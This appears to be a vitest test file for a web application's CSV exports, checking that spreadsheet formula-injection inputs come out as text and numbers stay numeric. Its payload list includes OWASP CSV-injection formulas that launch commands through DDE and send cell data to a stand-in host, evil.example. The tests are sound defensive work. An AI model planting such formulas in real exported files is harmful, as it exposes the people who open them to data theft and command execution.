import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CONTROL_PREFIX, neutraliseCell, type AsyncOperation } from '../../contracts/index.ts';
import { csvText } from '../../client/resources/query.ts';
import { useApiServer } from '../helpers/api-server.ts';
import { ok } from '../helpers/qr.ts';
import { userIdOf } from '../../fixtures/factories.ts';

/**
 * Issue 20, CSV formulas: the OWASP "CSV Injection" payloads (and the leading-whitespace bypass) come out of
 * both exports — the console's (client/resources/query.ts) and the server's export job — as text, while
 * numbers, negative amounts included, stay numbers.
 */
const OWASP_PAYLOADS = [
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Error: click to fix")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1+2',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/")',
  '=DDE("cmd";"/C calc";"!A0")',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  ' =1+2',
  '\u00a0\u3000@SUM(1)',
  '\n\n-1+1',
  '\t',
  '＝1+2',
  '=-1',
  '-1+1',
  '+1-1',
];
const NUMBERS = ['-10000000', '0', '12.5', '-0.000001', '1e3'];

describe('the neutralising rule', () => {
  it.each(OWASP_PAYLOADS)('turns %j into text', (payload) => {
    expect(neutraliseCell(payload)).toBe(`'${payload}`);
  });
  it.each(NUMBERS)('keeps the number %s', (n) => {
    expect(neutraliseCell(n)).toBe(n);
    expect(neutraliseCell(Number(n))).toBe(String(Number(n)));
  });
  it('leaves ordinary text, and texts with = inside, alone', () => {
    for (const s of ['demo01', 'a=b', 'user@example.com', '中文', '', "'=already text"]) expect(neutraliseCell(s)).toBe(s);
  });
  it('the console’s CSV: every payload cell parses back starting with an apostrophe, numbers as they were', () => {
    const text = csvText(['cell'], [...OWASP_PAYLOADS, ...NUMBERS].map((c) => [c]));
    const cells = Papa.parse<string[]>(text.slice(1), { newline: '\r\n' }).data.slice(1).map((r) => r[0]);
    expect(cells).toEqual([...OWASP_PAYLOADS.map((p) => `'${p}`), ...NUMBERS]);
  });
});

describe('the server’s export job', () => {
  const api = useApiServer({}, { superadmin: 'superadmin' });

  async function exported(path: string, filters: object): Promise<Record<string, string>[]> {
    const job = ok<AsyncOperation>(await api.t.call('async_operations/export', { path, filters }, api.tok.superadmin));
    for (let i = 0; i < 20; i++) {
      const res = await fetch(`${api.t.url}${CONTROL_PREFIX}/job_step`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: job.id }) });
      const stepped = ((await res.json()) as { data: { jobs: { status: number }[] } }).data.jobs[0];
      if (!stepped || stepped.status !== 1) break;
    }
    const file = ok<{ content: string }>(await api.t.call('async_operations/download', { id: job.id }, api.tok.superadmin));
    return Papa.parse<Record<string, string>>(file.content.slice(1).trim(), { header: true, newline: '\r\n' }).data;
  }

  it('failed logins with formula accounts reach the super administrator’s log export as text', async () => {
    const typed = OWASP_PAYLOADS.filter((p) => p.trim() && p.length <= 64);
    for (const account of typed) await api.t.call('admin/login', { account, password: api.t.encrypt('Wrong12345') });
    const rows = await exported('log/inquire', {});
    const accounts = rows.map((r) => r.account ?? '');
    // The login form trims the account, so the stored name is the trimmed payload: each one is neutralised.
    for (const p of typed) expect(accounts).toContain(`'${p.trim()}`);
    // Every exported cell is its stored value as the rule writes it (an apostrophe only before a formula).
    for (const a of accounts) expect(neutraliseCell(a.startsWith("'") ? a.slice(1) : a)).toBe(a);
  });

  it('negative amounts stay numbers in a bill export', async () => {
    const agent = userIdOf(api.t.db, 'agent01');
    ok(await api.t.call('user/change_balance', { id: agent, amount_micro: 20_000_000, remark: '+ bonus' }, api.tok.superadmin));
    ok(await api.t.call('user/change_balance', { id: agent, amount_micro: -10_000_000, remark: '-correction' }, api.tok.superadmin));
    const rows = await exported('bill/inquire', { user_id: agent });
    expect(rows.map((r) => r.amount_micro)).toEqual(expect.arrayContaining(['-10000000', '20000000']));
    expect(rows.map((r) => r.remark)).toEqual(expect.arrayContaining(["'+ bonus", "'-correction"]));
  });
});
